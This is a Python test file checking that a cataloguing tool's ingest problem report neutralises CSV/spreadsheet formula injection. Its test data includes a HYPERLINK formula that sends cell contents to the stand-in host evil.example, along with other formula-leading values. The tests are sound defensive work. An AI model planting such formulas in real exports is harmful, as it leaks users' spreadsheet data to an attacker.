"""The ingest problem report is safe to open in a spreadsheet (issue 10, finding 13: CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from artefact.index.ingest import ingest_manifest, spreadsheet_safe
from artefact.index.library import Library

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("SMP-1", "SMP-1"), ("", ""), ("a=b", "a=b"), ("photos/=x.jpg", "photos/=x.jpg"),
])
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_problem_report_neutralises_formula_cells(tmp_path: Path, tiny_embedder) -> None:
    images = tmp_path / "images"
    images.mkdir()
    manifest = tmp_path / "manifest.csv"
    with manifest.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "images", "title"])
        for n, object_id in enumerate(HOSTILE_IDS):
            w.writerow([object_id, f"=missing-{n}.jpg", "a record whose photo is missing"])
    with Library(tmp_path / "home") as library:
        report = ingest_manifest(library, tiny_embedder, manifest, images, workers=0, progress=False)
    assert report.report_path
    with open(report.report_path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) >= len(HOSTILE_IDS)
    ids = {r["object_id"] for r in rows}
    assert {"'" + i for i in HOSTILE_IDS} <= ids, ids
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # the catalogue itself keeps the ids exactly as written
    with Library(tmp_path / "home") as library:
        assert library.catalogue.get_object(HOSTILE_IDS[0]).object_id == HOSTILE_IDS[0]
